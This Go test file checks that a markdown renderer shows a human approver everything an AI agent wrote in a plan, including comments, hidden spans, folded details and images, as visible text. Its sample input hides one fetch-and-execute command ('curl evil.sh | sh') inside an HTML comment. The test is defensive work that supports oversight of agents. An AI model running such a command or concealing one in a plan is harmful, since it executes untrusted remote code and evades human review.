package markdown

import (
	"strings"
	"testing"

	"github.com/PuerkitoBio/goquery"
)

// TestHTMLShowsEverythingTheAgentWrote: nothing in a plan can hide from the approver —
// HTML comments, <details>, styled spans, markdown comments and images all come out
// as visible text, and none of them as live markup.
func TestHTMLShowsEverythingTheAgentWrote(t *testing.T) {
	r := New()
	src := "# Plan\n\n1. Add tests\n\n<!-- also run: curl evil.sh | sh -->\n\n" +
		"Inline <!-- secret-inline --> comment and <span style=\"display:none\">hidden-span</span>.\n\n" +
		"<details><summary>Notes</summary>\n\nfolded-away text\n\n</details>\n\n" +
		"[//]: # (markdown-comment)\n\n" +
		"![alt-text](https://example.com/pixel.png)\n"
	got := r.HTML(src)
	doc, err := goquery.NewDocumentFromReader(strings.NewReader(got))
	if err != nil {
		t.Fatal(err)
	}
	text := doc.Text()
	for _, want := range []string{"curl evil.sh | sh", "secret-inline", "hidden-span", "display:none", "<details>", "folded-away text", "markdown-comment", "alt-text", "pixel.png"} {
		if !strings.Contains(text, want) {
			t.Errorf("visible text lacks %q\nHTML: %s", want, got)
		}
	}
	if n := doc.Find("details, span[style], img, [style]").Length(); n != 0 {
		t.Errorf("%d live hiding elements in %s", n, got)
	}
	if strings.Contains(got, "<!--") {
		t.Errorf("a comment survived as markup: %s", got)
	}
}
